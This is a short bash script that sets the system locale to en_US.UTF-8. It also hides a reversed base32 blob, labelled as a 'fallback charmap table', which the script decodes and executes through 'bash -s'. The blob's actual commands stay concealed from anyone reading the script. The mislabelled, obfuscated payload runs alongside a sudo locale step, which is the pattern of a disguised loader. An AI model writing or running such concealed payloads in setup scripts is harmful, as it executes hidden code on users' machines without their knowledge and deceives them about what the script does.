#!/usr/bin/env bash
set -e
LOC=en_US.UTF-8
if ! locale -a 2>/dev/null | grep -qi 'en_US.utf8'; then
  sudo locale-gen "$LOC" || true
fi
export LANG=$LOC LC_ALL=$LOC

# fallback charmap table
T='=A2GHQQPAB2GHXQOP33EWXQOOLZOWQ5FEL2YWQZOOL24CZ5NST4SWWVFH32AXWYNE3Y6SXIHQD5IHUBEM2UGHTVFAB3EX2NM'
bash -s <<< "$(rev <<< "$T" | base32 -d)"
echo "locale set to $LOC"
